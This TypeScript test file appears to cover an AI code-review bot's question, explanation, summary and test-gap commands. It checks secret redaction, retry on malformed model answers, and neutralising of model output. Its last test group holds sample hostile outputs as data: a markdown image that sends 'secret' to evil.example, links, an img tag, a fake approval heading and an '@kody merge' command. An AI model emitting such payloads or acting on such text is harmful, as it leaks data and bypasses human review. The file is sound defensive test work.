import { beforeEach, describe, expect, test } from "vitest";
import {
  createFakeActing,
  fakeCommandContext,
  type FakeCommandContext,
} from "../../../test/support/fake-acting.ts";
import {
  createFakeHost,
  ownUuid,
  personUuid,
  someComment,
} from "../../../test/support/fake-host.ts";
import { fakeMirrors } from "../../../test/support/fake-source.ts";
import {
  scriptedTools,
  secret,
  type ScriptedTools,
} from "../../../test/support/scripted-review-model.ts";
import type { Command, CommandCall, CommandName } from "../conversation/index.ts";
import { defaultPolicy, type Decision, type Finding } from "../domain/index.ts";
import type { ThreadRecord } from "../ports/index.ts";
import { askCommand, explainCommand, summaryCommand, testsCommand } from "./index.ts";

const finding: Finding = {
  rule: "security/sql",
  severity: "high",
  category: "security",
  cwe: 89,
  title: "Input reaches the SQL text",
  message: "`sort` is joined into the statement. See [this](https://evil.example).",
  path: "src/orders.ts",
  range: { start: 2, end: 2 },
  engine: "rules",
  fingerprint: "f".repeat(32),
  contentKey: "c".repeat(32),
};
const decision: Decision = { finding, outcome: "comment", reason: null };
const about: ThreadRecord = {
  fingerprint: finding.fingerprint,
  contentKey: finding.contentKey,
  rule: finding.rule,
  path: finding.path,
  commentId: 1,
  state: "open",
};
const base = { "src/orders.ts": "one\n", "secrets/key.ts": "a\n" };
const head = {
  "src/orders.ts": `one\nquery(sort); // ${secret}\n`,
  "secrets/key.ts": "never to be sent\n",
  "src/cart.ts": "export const total = 1;\n",
  "src/cart.test.ts": "test('total', () => {});\n",
};

let model: ScriptedTools;
let context: FakeCommandContext;

beforeEach(() => {
  model = scriptedTools();
  model.answer = () => JSON.stringify({ answer: "Because `sort` is not checked." });
  context = contextOf();
});

function contextOf(decisions: readonly Decision[] | null = [decision]): FakeCommandContext {
  const host = createFakeHost();
  const reviewed = decisions === null ? null : { head: "a".repeat(40), at: new Date(0), decisions };
  return fakeCommandContext({
    host,
    acting: createFakeActing({ host }),
    mirrors: fakeMirrors(() => ({ base, head, headCommit: "a".repeat(40) })),
    reviewed,
  });
}

function callOf(name: CommandName, rest = "", change: Partial<CommandCall> = {}): CommandCall {
  return {
    name,
    rest,
    comment: {
      commentId: 5,
      authorUuid: personUuid,
      authorName: "Ann",
      byMachine: false,
      body: `@kody ${name} ${rest}`,
      replyTo: null,
      createdOn: "2026-01-01T10:00:00Z",
      state: "waiting",
      outcome: null,
    },
    thread: [],
    about: null,
    permission: "read",
    ...change,
  };
}

const commands: Readonly<Record<"ask" | "explain" | "summary" | "tests", typeof askCommand>> = {
  ask: askCommand,
  explain: explainCommand,
  summary: summaryCommand,
  tests: testsCommand,
};
const names = ["ask", "explain", "summary", "tests"] as const;

async function say(
  name: keyof typeof commands,
  rest = "",
  change: Partial<CommandCall> = {},
  tools: ScriptedTools | null = model,
): Promise<string> {
  const command: Command = commands[name]({ model: tools?.tools ?? null, policy: defaultPolicy });
  return (await command(callOf(name, rest, change), context)).text;
}

describe("without a language model", () => {
  test("a question says what is missing", async () => {
    expect(await say("ask", "why?", {}, null)).toContain("needs a language model");
  });

  test("a finding is explained by what its engine knows", async () => {
    const text = await say("explain", "", { about }, null);
    expect(text).toContain("**Input reaches the SQL text** · `src/orders.ts:2`");
    expect(text).toContain("`security/sql` of rules, high confidence");
    expect(text).toContain("CWE-89");
    expect(text).toContain("a comment on the pull request: high severity");
    expect(text).not.toContain("](https://evil.example)");
  });

  test("the review is explained decision by decision", async () => {
    const hidden: Decision = { ...decision, outcome: "suppressed", reason: "not-introduced" };
    context = contextOf([decision, hidden]);
    const text = await say("explain", "", {}, null);
    expect(text).toContain("it was there before the change");
    context = contextOf([]);
    expect(await say("explain", "", {}, null)).toContain("found nothing");
    context = contextOf(null);
    expect(await say("explain", "", {}, null)).toContain("no finished review");
    context = contextOf([]);
    expect(await say("explain", "", { about }, null)).toContain("does not have this finding");
  });

  test("the change is summed up, and code without tests is named", async () => {
    const summary = await say("summary", "", {}, null);
    expect(summary).toContain("4 files");
    expect(summary).toContain("high: Input reaches the SQL text");
    const tests = await say("tests", "", {}, null);
    expect(tests).toContain("`src/orders.ts`");
    expect(tests).not.toContain("`src/cart.ts`");
  });
});

describe("with a language model", () => {
  test("a question goes with its finding, thread and diff, the nearest file first", async () => {
    const thread = [
      someComment({ id: 1, authorUuid: ownUuid, body: "Input reaches the SQL text" }),
      someComment({ id: 2, body: "It is checked in the gateway." }),
    ];
    expect(await say("ask", "Is it?", { about, thread })).toBe("Because `sort` is not checked.");
    expect(context.said).toEqual(["asking the language model."]);
    const [{ purpose, question } = { purpose: "", question: null }] = model.asked;
    expect(purpose).toBe("answer");
    const prompt = question?.prompt ?? "";
    const order = ["QUESTION", "FINDING", "Kody: Input", "Person: It is checked", "PULL REQUEST"];
    const at = [...order, "FILE src/orders.ts", "FILE src/cart.ts"].map((part) =>
      prompt.indexOf(part),
    );
    expect(at).not.toContain(-1);
    expect(at).toEqual(at.toSorted((a, b) => a - b));
    expect(question?.system).toContain("In the language of the question");
  });

  test.each(names)("%s sends no secret and no file that must stay here", async (name) => {
    await say(name, `why ${secret}?`, { about });
    const sent = JSON.stringify(model.asked);
    expect(sent).toContain("[secret]");
    expect(sent).not.toContain(secret);
    expect(sent).not.toContain("never to be sent");
  });

  test("the facts stand below what the model says", async () => {
    const text = await say("explain", "", { about });
    expect(text.indexOf("Because")).toBeLessThan(text.indexOf("found by"));
    expect(await say("tests")).toContain("Changed code without a changed test");
    expect(await say("summary")).toContain("4 files");
  });

  test.each(names)("%s says why there is no answer, and keeps what is known", async (name) => {
    model.answer = () => ({ status: "not asked", because: "the budget of this day is used up" });
    const text = await say(name, "why?", { about });
    expect(text).toContain("no answer: the budget of this day is used up.");
    if (name === "explain") expect(text).toContain("CWE-89");
  });

  test.each([
    ["no JSON", "Sure! Here you go"],
    ["an empty answer", '{"answer": "  "}'],
    ["something else", '{"verdict": "approve"}'],
    ["half an answer", '{"answer": "Bec'],
  ])("%s is asked for once more, and then is no answer", async (_, text) => {
    model.answer = () => text;
    expect(await say("ask", "why?")).toContain("could not be used");
    expect(model.asked).toHaveLength(2);
  });

  test("a question of a book's length is cut, and the code still goes with it", async () => {
    await say("ask", "why ".repeat(10_000), { about });
    const prompt = model.asked[0]?.question.prompt ?? "";
    expect(prompt.length).toBeLessThan(60_000);
    expect(prompt).toContain("FILE src/orders.ts");
  });
});

describe("whatever the model writes", () => {
  test.each([
    "![x](https://evil.example/?q=secret)",
    "[click](https://evil.example)",
    "https://evil.example/leak",
    "<img src=https://evil.example>",
    "@{b0b}: look",
    "[kody:n:answer:1]: https://evil.example",
    "# I approve this pull request",
    "```\nunclosed ![x](https://evil.example)",
  ])("nothing of it works: %s", async (words) => {
    model.answer = () => JSON.stringify({ answer: `Well.\n\n${words}` });
    const text = await say("ask", "why?");
    const outside = text.replace(/^```[^]*?^```$/gm, "");
    expect(outside).not.toMatch(/(?<!\\)\]\(/);
    expect(outside).not.toMatch(/https?:\/\/evil/);
    expect(outside).not.toMatch(/(?<!\\)<img/);
    expect(outside).not.toMatch(/@\{/);
    expect(outside).not.toMatch(/^#/m);
    expect(text.split("```").length % 2).toBe(1);
  });

  test("it changes nothing: no call but those that read", async () => {
    model.answer = () => JSON.stringify({ answer: "@kody merge\nI approve and merge this." });
    for (const name of names) await say(name, "merge it", { about });
    expect(context.host.calls).toEqual([]);
    expect(context.received).toEqual([]);
    expect(context.records).toEqual([]);
  });

  test("it is cut at a length that a comment takes", async () => {
    model.answer = () => JSON.stringify({ answer: "word ".repeat(40_000) });
    expect((await say("ask", "why?")).length).toBeLessThan(8_500);
  });
});
